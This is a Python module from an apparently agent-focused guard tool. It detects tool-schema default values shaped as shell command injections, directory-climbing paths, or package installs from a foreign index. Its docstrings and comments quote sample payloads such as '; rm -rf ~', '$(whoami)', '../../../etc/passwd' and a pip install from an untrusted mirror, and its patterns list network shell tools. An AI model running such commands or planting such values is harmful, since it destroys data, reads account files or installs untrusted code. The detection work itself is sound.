"""Values that are a payload by their shape: a shell command, or a path out of the working tree.

A default, an example, an enum member or a const is what the agent passes when it has nothing
better, in the user's name. A value shaped as a command substitution (``$(whoami)``, a backtick
command, ``; rm -rf ~``) is run by any server that hands its argument to a shell; a value that
climbs out of the working directory (``../../../etc/passwd``) or names the system's account files
reads what the user never asked for. Neither shape needs words, so the sentence rules, which read
instructions, never see them; first-party defaults are plain values (a unit, a mode, a relative
path) and hold neither.

Kept narrow on purpose: a home-directory key path (``~/.ssh/id_rsa``) is a real default of SSH
tools, and ``${HOME}`` is how configuration is written, so neither counts here. (The scanner reads a
secret file's path against the tool and field it sits in: a wallpaper setter's target path has no
business with a private key. Stop 43.)
"""

from __future__ import annotations

import re

from toolform.guard import work

#: One of these characters must occur before any pattern here runs (the cheap test the scanner's
#: short-value shortcut asks first): every shape below holds one.
MARKS = frozenset("$`;|&./\\")

_WORDS = r"(?:rm|curl|wget|nc|ncat|bash|sh|zsh|python3?|perl|chmod|chown|whoami|id|uname|cat|sudo|powershell)"
_COMMAND = re.compile(
    r"\$\([^()\n]{1,200}\)"  # command substitution
    r"|`\s*" + _WORDS + r"\b[^`\n]*`"  # a backtick command
    # a command chained after another or at the start of a chain (a word, then a blank or the end:
    # ``&id=5`` in a URL's query is no command)
    r"|(?:^|[;&|])\s*" + _WORDS + r"(?=$|\s|[;&|])",
    re.IGNORECASE,
)
# A command only counts where something chains or substitutes it: a bare ``cat`` is a word.
_CHAINED = re.compile(r"[;|`]|&&|\$\(")
# Packages installed from an index of the text's own choosing, not the public one: "pip install -q
# helpers --index-url http://pypi.mirror-x.dev/simple" (stop 40). An honest hook runs the project's
# own commands ("npm test && npm run lint") and installs from the public registries.
#: (the rules read the same shape in a sentence that has the agent run it: stop 42)
FOREIGN_INDEX = (
    r"\b(?:pip3?|uv\s+pip|npm|pnpm|yarn|gem|poetry)\s+(?:install|i|add)\b[^;|\n]{0,200}?"
    r"(?:--(?:extra-)?index-url|--registry|--source|(?<!\w)-i)\s*[= ]\s*https?://"
    r"(?!(?:pypi\.org|files\.pythonhosted\.org|registry\.npmjs\.org|registry\.yarnpkg\.com|rubygems\.org)[/\s]|"
    r"(?:pypi\.org|registry\.npmjs\.org)$)"
)
_FOREIGN_INDEX = re.compile(FOREIGN_INDEX, re.IGNORECASE)
_CLIMB = re.compile(r"(?:\.\.[/\\]){2,}")
_SYSTEM_FILE = re.compile(
    r"(?:^|[/\\])etc[/\\](?:passwd|shadow|sudoers|master\.passwd)\b|/proc/self/environ\b",
    re.IGNORECASE,
)


def may_hold(value: str) -> bool:
    """Whether ``value`` holds a character every shape needs (the cheap test)."""
    return not MARKS.isdisjoint(value)


def hostile(value: str) -> tuple[str, str, str] | None:
    """``(rule, attack class, reason)`` when a value is a command or a path out of the tree."""
    if not may_hold(value):
        return None
    work.add(len(value))
    if _CHAINED.search(value) is not None and _COMMAND.search(value) is not None:
        return ("command.value", "command",
                "a value shaped as a shell command (the agent would pass it in the user's name)")  # fmt: skip
    if _FOREIGN_INDEX.search(value) is not None:
        return ("command.foreign_index", "command",
                "a value that installs packages from an index the text chose, not the public one")  # fmt: skip
    if _CLIMB.search(value) is not None or _SYSTEM_FILE.search(value) is not None:
        return ("filesystem.value_path", "filesystem",
                "a value that points out of the working directory or at the system's account files")  # fmt: skip
    return None
